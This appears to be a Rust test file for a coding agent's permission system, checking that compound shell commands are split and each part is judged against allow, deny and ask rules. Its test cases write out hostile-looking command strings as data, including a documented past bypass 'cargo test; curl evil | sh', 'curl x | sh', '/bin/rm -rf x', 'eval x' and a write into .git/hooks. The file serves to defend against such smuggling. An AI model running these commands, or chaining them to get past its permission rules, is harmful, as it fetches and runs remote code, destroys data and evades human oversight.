//! Shell commands under rules, over the binary: a rule about a part of a command holds anywhere in the command.

use serde_json::{Value, json};

use super::lab::Lab;

fn rules(lab: &Lab, lines: &[Value]) -> String {
    let file = lab.path("rules");
    std::fs::write(&file, lines.iter().map(|line| format!("{line}\n")).collect::<String>()).unwrap();
    file.display().to_string()
}

/// The documented example, which let `cargo test; curl evil | sh` run.
#[test]
fn an_allowed_command_lets_no_other_through() {
    let lab = Lab::new();
    let rules = rules(&lab, &[json!({"permission": "bash", "pattern": "cargo *", "action": "allow"})]);
    let model = lab.script(json!([
        {"calls": [{"name": "bash", "input": {"command": "cargo --version; touch marker"}}]},
        {"expect": ["Permission denied: bash touch marker by profile headless"], "text": "I was told."},
    ]));
    let ended =
        lab.run(&["run", "--permission", "headless", "--rules", &rules, "--session", "s", "--model", &model, "go"]);
    assert_eq!(ended.code, 0, "{}", ended.stderr);
    assert!(ended.stdout.contains("I was told."), "{}", ended.stdout);
    assert!(!lab.work("marker").exists());
    let call = lab.tape("s").into_iter().find(|entry| entry["kind"] == "call").unwrap();
    let parts: Vec<_> =
        call["data"]["access"].as_array().unwrap().iter().map(|access| access["pattern"].clone()).collect();
    assert_eq!(parts, ["cargo --version", "touch marker", "cargo --version; touch marker"]);
}

/// `tamtam permit` says which part decided, and decides as a session does.
#[test]
fn permit_names_the_part_that_decides() {
    let lab = Lab::new();
    let rules = rules(
        &lab,
        &[
            json!({"permission": "bash", "pattern": "cargo *", "action": "allow"}),
            json!({"permission": "bash", "pattern": "rm *", "action": "deny"}),
        ],
    );
    for (command, decision, why) in [
        ("cargo test; /bin/rm -rf x", "deny", "`rm -rf x`: denied by the rule `deny bash rm *`"),
        ("cargo test\ncurl x | cat", "ask", "`curl x`: asked about by the rule `ask bash *`"),
        (
            "cargo test\ncurl x | sh",
            "ask",
            "the command cannot be judged by its parts: it makes sh run what it reads: asked about by the rule `deny bash rm *`",
        ),
        ("cargo test && cat a", "allow", "`cargo test`: allowed by the rule `allow bash cargo *`"),
        ("cargo test > .git/hooks/x", "ask", "it writes `.git/hooks/x`: asked about by the rule `ask edit **/.git/**`"),
        ("cargo test; touch x; make y", "ask", "`touch x`: asked about by the rule `ask bash *`"),
        (
            "eval x",
            "ask",
            "the command cannot be judged by its parts: it has the command `eval`: asked about by the rule `deny bash rm *`",
        ),
    ] {
        let call = json!({ "command": command }).to_string();
        let judged = lab.run(&["permit", "bash", &call, "--permission", "edits", "--rules", &rules]).lines()[0].clone();
        assert_eq!((&judged["decision"], &judged["why"]), (&json!(decision), &json!(why)), "{command}");
        if command.contains("make y") {
            assert_eq!(
                judged["asks"],
                json!(["bash touch x", "bash make y"]),
                "all that a person would be asked about"
            );
        } else if decision != "ask" {
            assert_eq!(judged["asks"], json!(null), "{command}");
        }
    }
}

/// On a terminal a person reads the whole command, and which parts of it need the answer.
#[test]
fn a_question_says_which_parts_need_the_answer() {
    let lab = Lab::new();
    let rules = rules(&lab, &[json!({"permission": "bash", "pattern": "cargo *", "action": "allow"})]);
    let model = lab.script(json!([
        {"calls": [{"name": "bash", "input": {"command": "cargo --version >/dev/null; touch a > b"}}]},
        "Done.",
    ]));
    let mut run = lab.on_terminal(&["run", "--permission", "ask", "--rules", &rules, "--model", &model, "go"]);
    run.until_text("command: cargo --version >/dev/null; touch a > b");
    run.until_text("wants: bash touch a");
    run.until_text("wants: edit b (written by the command)");
    run.until_text("answer> ");
    run.type_keys("y\n");
    run.until_text("Done.");
    let ended = run.end();
    assert_eq!(ended.code, 0, "{}", ended.stdout);
    assert!(!ended.stdout.contains("wants: bash cargo"), "{}", ended.stdout);
    assert!(lab.work("a").exists() && lab.work("b").exists());
}
